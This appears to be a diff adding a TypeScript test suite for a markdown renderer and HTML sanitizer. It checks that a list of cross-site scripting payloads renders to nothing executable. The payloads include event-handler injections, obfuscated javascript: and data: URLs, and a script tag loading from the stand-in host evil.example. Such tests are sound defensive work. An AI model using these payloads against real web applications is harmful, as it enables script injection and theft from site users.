@@ -0,0 +1,114 @@
+import { renderMarkdown, sanitizeHtml } from './markdown';
+
+/**
+ * Parse rendered HTML and list everything that could run script
+ */
+function findHazards(html: string): string[] {
+  const template = document.createElement('template');
+  template.innerHTML = html;
+
+  const hazards: string[] = [];
+  for (const el of Array.from(template.content.querySelectorAll('*'))) {
+    if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'SVG', 'IMG', 'STYLE'].includes(el.tagName)) {
+      hazards.push(`<${el.tagName.toLowerCase()}>`);
+    }
+    for (const attr of Array.from(el.attributes)) {
+      if (attr.name.startsWith('on')) {
+        hazards.push(`${attr.name}=`);
+      }
+      if (['href', 'src', 'action', 'formaction'].includes(attr.name)) {
+        const url = attr.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
+        if (!/^https?:\/\//.test(url)) {
+          hazards.push(`${attr.name}=${attr.value}`);
+        }
+      }
+    }
+  }
+  return hazards;
+}
+
+const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<a href="javascript:alert(1)">click</a>',
+  '<a href="JaVaScRiPt:alert(1)">click</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
+  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
+  '<a href="&#x6A;avascript&colon;alert(1)">click</a>',
+  '<a href="java&#x09;script:alert(1)">click</a>',
+  'javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  '[click](javascript:alert(1))',
+  '**[click](javascript:alert(1))**',
+  '*<a href="javascript:alert(1)">**bold**</a>*',
+  'https://example.com/"onmouseover="alert(1)',
+  "https://example.com/'onmouseover='alert(1)",
+  'https://example.com/**"><img src=x onerror=alert(1)>**',
+  '**https://example.com/_x_"onclick=alert(1)**',
+  '`<script>alert(1)</script>`',
+  '```\n<img src=x onerror=alert(1)>\n```',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<form><button formaction="javascript:alert(1)">x</button></form>'
+];
+
+describe('renderMarkdown', () => {
+  it.each(PAYLOADS)('leaves nothing executable in %j', (payload) => {
+    const html = renderMarkdown(payload);
+
+    expect(findHazards(html)).toEqual([]);
+    expect(findHazards(sanitizeHtml(html))).toEqual([]);
+  });
+
+  it('escapes raw tags instead of emitting them', () => {
+    expect(renderMarkdown('<script>alert(1)</script>')).toBe(
+      '&lt;script&gt;alert(1)&lt;/script&gt;'
+    );
+  });
+
+  it('only links absolute http(s) URLs', () => {
+    const html = renderMarkdown('see https://example.com and javascript:alert(1)');
+    const template = document.createElement('template');
+    template.innerHTML = html;
+
+    const links = Array.from(template.content.querySelectorAll('a'));
+    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/']);
+    expect(links[0].getAttribute('rel')).toBe('noopener noreferrer');
+  });
+
+  it('keeps quotes in URLs inside the href attribute', () => {
+    const html = renderMarkdown('https://example.com/"onmouseover="alert(1)');
+    const template = document.createElement('template');
+    template.innerHTML = html;
+
+    const link = template.content.querySelector('a')!;
+    expect(Array.from(link.attributes).map((attr) => attr.name).sort()).toEqual([
+      'href',
+      'rel',
+      'target',
+    ]);
+  });
+
+  it('links inside emphasis keep emphasis markers out of the href', () => {
+    const template = document.createElement('template');
+    template.innerHTML = renderMarkdown('**see _https://example.com/a_b_c?x=<y>_**');
+
+    const link = template.content.querySelector('strong em a')!;
+    expect(link.getAttribute('href')).toBe('https://example.com/a_b_c?x=');
+    expect(link.querySelector('*')).toBeNull();
+  });
+});
+
+describe('sanitizeHtml', () => {
+  it('strips disallowed elements and attributes', () => {
+    expect(sanitizeHtml('<em onclick="alert(1)">hi</em><img src=x onerror=alert(1)>')).toBe(
+      '<em>hi</em>'
+    );
+  });
+
+  it('unwraps links with unsafe schemes, including entity-encoded ones', () => {
+    expect(sanitizeHtml('<a href="&#106;avascript:alert(1)">x</a>')).toBe('x');
+    expect(sanitizeHtml('<a href="data:text/html,hi">y</a>')).toBe('y');
+  });
+});